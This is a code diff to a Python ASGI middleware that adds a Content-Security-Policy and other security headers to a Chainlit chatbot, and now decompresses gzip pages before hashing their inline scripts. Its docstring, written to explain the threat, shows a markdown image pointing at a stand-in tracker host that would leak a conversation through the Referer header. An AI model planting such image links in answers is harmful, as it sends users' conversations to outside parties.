@@ -4,8 +4,8 @@ Chainlit 2.12 sends no Content-Security-Policy, X-Frame-Options or Referrer-Poli
 can frame the bot and any image in an answer (`![](https://tracker.example/p.gif?leak=...)`) is
 fetched by the customer's browser with the conversation's URL as Referer. Its page also links
 KaTeX's stylesheet on cdn.jsdelivr.net and preconnects to Google Fonts on every visit (LaTeX is
-off and the fonts are not used). This ASGI layer, innermost on Chainlit's app (it sees bodies
-before the gzip layer compresses them), adds:
+off and the fonts are not used). This ASGI layer, outermost on Chainlit's app (so request_guard's
+refusals carry the headers too), adds:
 
 - on Chainlit's page: a full CSP whose `script-src` allows the page's own files plus the exact
   inline scripts Chainlit writes into it (by hash, so no 'unsafe-inline' or 'unsafe-eval'), whose
@@ -23,6 +23,7 @@ Only the standard library is imported at module level: settings.py uses `parse_o
 from __future__ import annotations
 
 import base64
+import gzip
 import hashlib
 import re
 from collections.abc import Awaitable, Callable, Iterable, MutableMapping
@@ -196,11 +197,13 @@ class SecurityHeaders:
                 body.extend(message.get("body", b""))
                 if message.get("more_body", False):
                     return
-                page = without_third_party_links(bytes(body))
+                headers = list(held.get("headers", []))
+                page = without_third_party_links(_decoded(headers, bytes(body)))
                 csp = policy.page_csp(match.group(1) for match in _INLINE_SCRIPT.finditer(page))
                 extra = [*policy.common_headers(), (b"content-security-policy", csp.encode("ascii")),
                          (b"content-length", str(len(page)).encode("ascii"))]
-                held["headers"] = _replace(list(held.get("headers", [])), extra)
+                held["headers"] = _replace([item for item in headers if item[0].lower() != b"content-encoding"],
+                                           extra)
                 await send(held)
                 await send({"type": "http.response.body", "body": page, "more_body": False})
             else:
@@ -209,14 +212,23 @@ class SecurityHeaders:
         await self.app(scope, receive, send_with_headers)
 
 
-def install(app: Any) -> None:
-    """Add the layer innermost on Chainlit's Starlette app (before the app starts serving).
+def _decoded(headers: list[tuple[bytes, bytes]], body: bytes) -> bytes:
+    """The page's HTML: Chainlit's gzip layer (inside this one) compresses it for browsers that accept gzip.
 
-    Innermost, so the page's body arrives uncompressed (Chainlit's gzip layer is outside it) and
-    every route, the socket.io mount included, passes through it.
+    The page is sent on uncompressed (about 2 KB); any other encoding would be a Chainlit change this
+    code does not know, so it fails loudly rather than hash compressed bytes.
     """
-    from starlette.middleware import Middleware
+    encoding = _header(headers, b"content-encoding").strip().lower()
+    if encoding in (b"", b"identity"):
+        return body
+    if encoding == b"gzip":
+        return gzip.decompress(body)
+    raise RuntimeError(f"cannot read Chainlit's page in content-encoding {encoding.decode('latin-1')!r}")
 
+
+def install(app: Any) -> None:
+    """Add the layer outermost on Chainlit's Starlette app (before the app starts serving), so every
+    route, the socket.io mount and the refusals of layers installed before it included, passes through it."""
     if app.middleware_stack is not None:
         raise RuntimeError("security headers must be installed before Chainlit's server starts")
-    app.user_middleware.append(Middleware(SecurityHeaders))
+    app.add_middleware(SecurityHeaders)
